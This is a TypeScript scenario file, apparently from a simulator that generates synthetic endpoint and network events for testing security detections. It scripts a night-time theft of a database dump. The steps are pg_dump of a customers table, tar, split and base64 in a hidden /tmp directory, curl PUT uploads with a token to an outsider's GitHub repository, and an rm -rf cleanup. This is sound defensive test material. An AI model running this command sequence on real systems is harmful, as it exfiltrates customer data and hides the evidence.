/** A database server, which has no business with code hosts, writes dumps to a stranger's repository through the API at night. */
import { MINUTE } from "../clock.ts";
import { hostNamed, type Account } from "../company.ts";
import { createFile, readFile, session, startProcess } from "../sensors/endpoint.ts";
import { overTls } from "../sensors/network.ts";
import { server } from "../servers.ts";
import { at } from "../world.ts";
import type { Story } from "./index.ts";

const POSTGRES: Account = { name: "postgres", uid: 113 };

export const apiUpload: Story = {
  id: "api-upload",
  title: "Database dump written to a repository through the contents API",
  behaviours: ["api-upload", "unsanctioned-source-host", "off-hours-activity"],
  shows: {
    url: ["api-upload", "unsanctioned-source-host", "off-hours-activity"],
    "sni+flow": ["unsanctioned-source-host", "off-hours-activity"],
    flow: ["unsanctioned-source-host", "off-hours-activity"],
    endpoint: ["api-upload", "unsanctioned-source-host", "off-hours-activity", "stage-then-send"],
  },
  demoDay: 2,
  days: 1,
  tell(world, day, random) {
    const host = hostNamed(world.company, "db-02");
    const owner = `qx-${random.hex(5)}`;
    const repository = "static-assets";
    const shell = session(host, POSTGRES, random, "/usr/bin/bash");
    let time = at(world, day, 3.4);
    const dump = startProcess(world, {
      time,
      parent: shell,
      image: "/usr/bin/pg_dump",
      argv: ["pg_dump", "--table=customers", "--file", "/tmp/.cache/c.sql", "ledger"],
      random,
    });
    readFile(world, time + 900, dump, "/var/backups/db/customers.dump");
    time += 2 * MINUTE;
    const tar = startProcess(world, {
      time,
      parent: shell,
      image: "/usr/bin/tar",
      argv: ["tar", "-czf", "/tmp/.cache/c.tgz", "/tmp/.cache/c.sql", "/var/backups/db/customers.dump"],
      random,
    });
    readFile(world, time + 300, tar, "/var/backups/db/customers.dump");
    createFile(world, time + 5_000, tar, "/tmp/.cache/c.tgz");
    time += MINUTE;
    startProcess(world, {
      time,
      parent: shell,
      image: "/usr/bin/split",
      argv: ["split", "-b", "6m", "/tmp/.cache/c.tgz", "/tmp/.cache/part-"],
      random,
    });
    let total = 0;
    for (const part of ["aa", "ab", "ac", "ad", "ae", "af"]) {
      time += random.int(25_000, 70_000);
      const path = `/repos/${owner}/${repository}/contents/img/${part}.bin`;
      const url = `https://api.github.com${path}`;
      startProcess(world, {
        time: time - 1_500,
        parent: shell,
        image: "/usr/bin/base64",
        argv: ["base64", "-w0", `/tmp/.cache/part-${part}`],
        random,
      });
      const curl = startProcess(world, {
        time,
        parent: shell,
        image: "/usr/bin/curl",
        argv: [
          "curl",
          "-s",
          "-X",
          "PUT",
          "-H",
          `Authorization: token ghp_${random.alphanumeric(36)}`,
          "-d",
          `@/tmp/.cache/${part}.json`,
          url,
        ],
        random,
      });
      const sent = part === "af" ? random.int(2_000_000, 7_000_000) : 8_388_700 + random.int(0, 900);
      total += sent;
      overTls(world, {
        time: time + 40,
        host,
        user: null,
        process: curl,
        server: server("api.github.com"),
        requests: [{ method: "PUT", path, status: 201, sent, received: 1_900, type: "application/json" }],
        userAgent: "curl/8.12.1",
        random,
      });
    }
    startProcess(world, {
      time: time + 30_000,
      parent: shell,
      image: "/usr/bin/rm",
      argv: ["rm", "-rf", "/tmp/.cache"],
      random,
    });
    return {
      actor: ["postgres"],
      hosts: [host.name],
      addresses: [host.ip],
      destinations: [`github.com/${owner}/${repository}`],
      bytesOut: total,
    };
  },
};
